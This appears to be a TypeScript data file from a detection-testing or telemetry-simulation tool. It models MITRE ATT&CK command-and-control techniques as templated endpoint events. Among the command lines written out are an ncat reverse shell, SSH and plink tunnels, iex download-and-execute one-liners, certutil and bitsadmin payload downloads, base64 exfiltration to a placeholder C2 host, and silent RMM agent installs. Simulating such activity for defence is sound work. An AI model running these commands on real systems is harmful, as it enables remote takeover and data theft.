import { t, v } from "../dsl";

/** Command and control: implant traffic and tunnelling tools as they appear on the endpoint. (continued) */
export const commandAndControlB = [
  t("T1571", "Non-standard port", "HTTP(S) C2 on unusual ports.", [
    v("implant-port", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2ip}}", 8443]], keep: true }], {
      shell: "none",
    }),
    v("ps-port", [{ ps: "iwr http://{{c2}}:8080/a -UseBasicParsing", net: [["{{c2}}", 8080]] }], {
      shell: "ps",
    }),
  ]),
  t("T1572", "Protocol tunneling", "SSH/plink, ngrok or Cloudflare tunnels out of the network.", [
    v("plink", [
      {
        cmd: "{{tools}}\\plink.exe -ssh -R 4444:127.0.0.1:3389 -l root -pw P@ss {{c2ip}} -P 443",
        net: [["{{c2ip}}", 443]],
      },
    ]),
    v("ngrok", [
      { cmd: "{{tools}}\\ngrok.exe tcp 3389 --authtoken {{rand2}}", net: [["tunnel.us.ngrok.com", 443]] },
    ]),
    v("cloudflared", [
      {
        cmd: "{{tools}}\\cloudflared.exe tunnel run --token {{rand2}}{{rand2}}",
        net: [["region1.v2.argotunnel.com", 7844]],
      },
    ]),
    v("ssh-reverse", [
      {
        cmd: "ssh.exe -N -R 9050 -p 443 -o StrictHostKeyChecking=no root@{{c2ip}}",
        image: "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
        net: [["{{c2ip}}", 443]],
      },
    ]),
  ]),
  t("T1573", "Encrypted channel", "TLS C2 with a self-signed certificate.", [
    v("tls", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], { shell: "none" }),
  ]),
  t("T1573.001", "Symmetric cryptography", "RC4/AES-encrypted C2.", [
    v("rc4", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2ip}}", 443]], keep: true }], { shell: "none" }),
  ]),
  t("T1573.002", "Asymmetric cryptography", "TLS via openssl/ncat --ssl reverse shell.", [
    // -e hands the connection to a cmd.exe child: the operator's shell.
    v("ncat-ssl", [
      {
        cmd: "{{tools}}\\ncat.exe --ssl {{c2ip}} 443 -e cmd.exe",
        net: [["{{c2ip}}", 443]],
        as: "nc",
        keep: true,
      },
      { cmd: "cmd.exe", parent: "nc", keep: true },
    ]),
  ]),
  t("T1665", "Hide infrastructure", "C2 behind CDN/cloud front ends.", [
    v("cdn", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{rand}}.cloudfront.net", 443]], keep: true }], {
      shell: "none",
    }),
  ]),
  t("T1102", "Web service", "C2 through a legitimate web service API.", [
    v(
      "pastebin",
      [
        {
          ps: "iex (iwr -UseBasicParsing https://pastebin.com/raw/{{rand}}).Content",
          net: [["pastebin.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1102.001", "Dead drop resolver", "C2 address read from a public page.", [
    v(
      "github-gist",
      [
        {
          ps: "$u = (iwr https://gist.githubusercontent.com/{{rand}}/raw/c2.txt).Content",
          net: [["gist.githubusercontent.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1102.002", "Bidirectional communication", "Commands and results through Telegram/Discord/Graph APIs.", [
    v("telegram", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["api.telegram.org", 443]], keep: true }], {
      shell: "none",
    }),
    v("discord", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["discord.com", 443]], keep: true }], {
      shell: "none",
    }),
  ]),
  t("T1102.003", "One-way communication", "Commands read from a web page without replies.", [
    v(
      "read-page",
      [
        {
          ps: "iex (iwr https://docs.google.com/document/d/{{rand2}}/export?format=txt).Content",
          net: [["docs.google.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1132", "Data encoding", "Base64-encoded C2 traffic.", [
    v(
      "b64-post",
      [
        {
          ps: "$d = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes((whoami))); iwr -Method Post -Uri https://{{c2}}/c -Body $d",
        },
        // (whoami) is the native whoami.exe, run by the shell before the POST.
        { cmd: '"C:\\Windows\\system32\\whoami.exe"', delay: 300 },
        { by: "sh", net: [["{{c2}}", 443]] },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1132.001", "Standard encoding", "Base64 in URLs and bodies.", [
    v(
      "b64-get",
      [
        {
          ps: 'iwr "https://{{c2}}/q?d=$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:COMPUTERNAME)))"',
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1132.002", "Non-standard encoding", "A custom alphabet used by the implant.", [
    v("implant", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], {
      shell: "none",
    }),
  ]),
  t(
    "T1219",
    "Remote access tools",
    "Legitimate RMM software installed for access (AnyDesk, ScreenConnect, TeamViewer).",
    [
      v(
        "anydesk",
        [
          {
            cmd: '"C:\\ProgramData\\AnyDesk.exe" --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
            net: [["relay-{{rand}}.net.anydesk.com", 443]],
          },
        ],
        { elevated: true },
      ),
      v(
        "screenconnect",
        [
          {
            cmd: 'msiexec.exe /i "{{downloads}}\\ScreenConnect.ClientSetup.msi" /qn',
            net: [["instance-{{rand}}-relay.screenconnect.com", 443]],
          },
        ],
        { elevated: true },
      ),
      // MeshCentral's agent, fetched from the intruder's own server: -fullinstall copies it under Program Files
      // as the "Mesh Agent" service; the web console's terminal then runs shells under MeshAgent.exe as SYSTEM.
      v(
        "meshagent",
        [
          {
            cmd: "{{downloads}}\\meshagent64-{{name}}.exe -fullinstall",
            files: [
              "C:\\Program Files\\Mesh Agent\\MeshAgent.exe",
              "C:\\Program Files\\Mesh Agent\\MeshAgent.msh",
            ],
            then: [
              {
                id: "svc",
                kind: "service.install",
                proc: "@services",
                name: "Mesh Agent",
                imagePath: '"C:\\Program Files\\Mesh Agent\\MeshAgent.exe"',
                startType: "auto start",
              },
            ],
          },
          {
            cmd: '"C:\\Program Files\\Mesh Agent\\MeshAgent.exe"',
            parent: "@services",
            user: "@system",
            as: "mesh",
            net: [["{{c2}}", 443]],
            keep: true,
          },
          { cmd: "cmd.exe", parent: "mesh", user: "@system" },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1219.001", "IDE tunneling", "VS Code tunnels exposing the host.", [
    v("code-tunnel", [
      {
        cmd: "{{tmp}}\\code.exe tunnel --accept-server-license-terms --name {{me}}",
        net: [["global.rel.tunnels.api.visualstudio.com", 443]],
      },
    ]),
    // The standalone VS Code CLI dropped under a benign name (as in Operation Digital Eye): it registers the
    // tunnel, fetches the server, starts it through code-server.cmd, and the remote user opens a terminal.
    v(
      "renamed-cli",
      [
        {
          cmd: "{{local}}\\Microsoft\\{{name}}.exe tunnel --accept-server-license-terms --name {{me}}-{{n}}",
          as: "cli",
          net: [
            ["global.rel.tunnels.api.visualstudio.com", 443],
            ["update.code.visualstudio.com", 443],
          ],
          files: ["{{home}}\\.vscode\\cli\\servers\\Stable-{{$commit}}\\server\\node.exe"],
          keep: true,
        },
        {
          cmd: 'C:\\Windows\\system32\\cmd.exe /d /c "{{home}}\\.vscode\\cli\\servers\\Stable-{{$commit}}\\server\\bin\\code-server.cmd" --connection-token=remotessh --accept-server-license-terms --start-server --enable-remote-auto-shutdown --socket-path={{tmp}}\\code-{{rand}}',
          as: "srvcmd",
          parent: "cli",
        },
        {
          cmd: '"{{home}}\\.vscode\\cli\\servers\\Stable-{{$commit}}\\server\\node.exe" "{{home}}\\.vscode\\cli\\servers\\Stable-{{$commit}}\\server\\out\\server-main.js" --connection-token=remotessh --accept-server-license-terms --start-server --enable-remote-auto-shutdown',
          as: "node",
          parent: "srvcmd",
          keep: true,
        },
      ],
      {
        vars: {
          commit:
            "{{f1e16e1e6214d7c44d078b1f0607b2388f29d729|ea1445cc7016315d0f5728f8e8b12a45dc0a7286|384ff7382de624fb94dbaf6da11977bba1ecd427}}",
        },
      },
    ),
  ]),
  t("T1219.002", "Remote desktop software", "AnyDesk, TeamViewer, Atera, Splashtop installed silently.", [
    v(
      "anydesk",
      [
        // cmd pipes the password into a second AnyDesk process, which writes it to the service config.
        { cmd: "cmd.exe /c echo P@ss{{n}} | C:\\ProgramData\\AnyDesk.exe --set-password", as: "c" },
        {
          cmd: "C:\\ProgramData\\AnyDesk.exe  --set-password",
          parent: "c",
          files: ["C:\\ProgramData\\AnyDesk\\service.conf"],
          net: [["boot.net.anydesk.com", 443]],
        },
      ],
      { elevated: true },
    ),
    v(
      "teamviewer",
      [
        {
          cmd: '"C:\\Program Files\\TeamViewer\\TeamViewer.exe" assign --api-token {{rand2}} --grant-easy-access',
          net: [["router{{n}}.teamviewer.com", 443]],
          files: ["C:\\Program Files\\TeamViewer\\TeamViewer15_Logfile.log"],
        },
      ],
      { elevated: true },
    ),
    v("atera", ["msiexec /i {{tmp}}\\setup.msi /qn IntegratorLogin={{rand}}@proton.me CompanyId=1"], {
      elevated: true,
    }),
  ]),
  t("T1219.003", "Remote access hardware", "A KVM/IP device attached; host sees a new USB HID.", [
    v("pnp", ["pnputil /enum-devices /class Keyboard"]),
    // A PiKVM/TinyPilot plugged in: Plug and Play enumerates a Linux USB gadget (VID 1D6B, PID 0104) as
    // keyboard and mouse; the remote operator then logs on at the console and works through Explorer.
    v(
      "pikvm-console",
      [
        {
          by: "@svchost:DcomLaunch",
          regKeys: [
            "HKLM\\SYSTEM\\CurrentControlSet\\Enum\\USB\\VID_1D6B&PID_0104\\{{rand2}}",
            "HKLM\\SYSTEM\\CurrentControlSet\\Enum\\HID\\VID_1D6B&PID_0104&MI_00\\7&{{rand2}}&0&0000",
          ],
          then: [
            {
              id: "console",
              kind: "logon",
              session: "kvm",
              user: "@user",
              logonType: 2,
              authPackage: "Negotiate",
              delayMs: 60000,
            },
          ],
        },
        { cmd: '"C:\\Windows\\system32\\cmd.exe" ', parent: "@explorer", as: "c", delay: 20000 },
        { cmd: "query user", parent: "c", image: "C:\\Windows\\System32\\query.exe" },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1568", "Dynamic resolution", "Implant resolving algorithmically chosen domains.", [
    v(
      "dga",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          dns: ["{{rand2}}.com", "{{rand}}{{rand}}.net", "{{rand2}}.biz"],
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1568.001", "Fast flux DNS", "A domain with rapidly changing answers queried repeatedly.", [
    v("flux", [{ cmd: "{{appdata}}\\{{name}}.exe", dns: ["{{c2}}", "{{c2}}", "{{c2}}"] }], { shell: "none" }),
  ]),
  t("T1568.002", "Domain generation algorithms", "Many NXDOMAIN lookups of random-looking names.", [
    v(
      "dga",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          then: ["a", "b", "c", "d", "e", "f"].map((x, n) => ({
            id: `q${n}`,
            kind: "dns.query" as const,
            name: `${x}{{rand2}}{{rand}}.com`,
            status: 9003,
          })),
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1568.003", "DNS calculation", "The C2 port derived from a resolved address.", [
    v("calc", [{ cmd: "{{appdata}}\\{{name}}.exe", dns: ["{{c2}}"], net: [["{{c2ip}}", 8081]] }], {
      shell: "none",
    }),
  ]),
  t("T1104", "Multi-stage channels", "A first-stage loader fetching a second stage from another host.", [
    v("stager", [
      { cmd: "{{tmp}}\\{{rand}}.exe", as: "s1", net: [["{{c2}}", 443]] },
      { cmd: "{{appdata}}\\{{name}}.exe", parent: "s1", net: [["cdn-{{c2}}", 443]] },
    ]),
  ]),
  t("T1105", "Ingress tool transfer", "Tools downloaded with certutil, bitsadmin, curl, Invoke-WebRequest.", [
    v("certutil-urlcache", [
      {
        cmd: "certutil.exe -urlcache -split -f http://{{c2ip}}/{{rand}}.exe C:\\Users\\Public\\{{rand}}.exe",
        net: [["{{c2ip}}", 80]],
        files: ["C:\\Users\\Public\\{{rand}}.exe"],
      },
    ]),
    // -k only when the server's certificate is self-signed; many operators front with a valid one.
    v("curl", [
      {
        cmd: "curl.exe {{-k |-s |}}-o {{tmp}}\\{{rand}}.exe https://{{c2}}/{{rand}}.exe",
        net: [["{{c2}}", 443]],
        files: ["{{tmp}}\\{{rand}}.exe"],
      },
    ]),
    v(
      "invoke-webrequest",
      [
        {
          ps: "Invoke-WebRequest -Uri https://{{c2}}/{{rand}}.zip -OutFile $env:TEMP\\{{rand}}.zip",
          net: [["{{c2}}", 443]],
          files: ["{{tmp}}\\{{rand}}.zip"],
        },
      ],
      { shell: "ps" },
    ),
    v("bitsadmin", [
      {
        cmd: "bitsadmin /transfer job /download /priority normal http://{{c2}}/{{rand}}.exe C:\\ProgramData\\{{rand}}.exe",
        net: [["{{c2}}", 80]],
      },
    ]),
    // The same download typed at cmd as a PowerShell one-liner (common in hands-on-keyboard intrusions).
    v("powershell-iwr-cli", [
      {
        cmd: 'powershell.exe -nop -c "iwr -Uri https://{{c2}}/{{rand}}.exe -OutFile C:\\Users\\Public\\{{rand}}.exe"',
        net: [["{{c2}}", 443]],
        files: ["C:\\Users\\Public\\{{rand}}.exe"],
      },
    ]),
  ]),
];
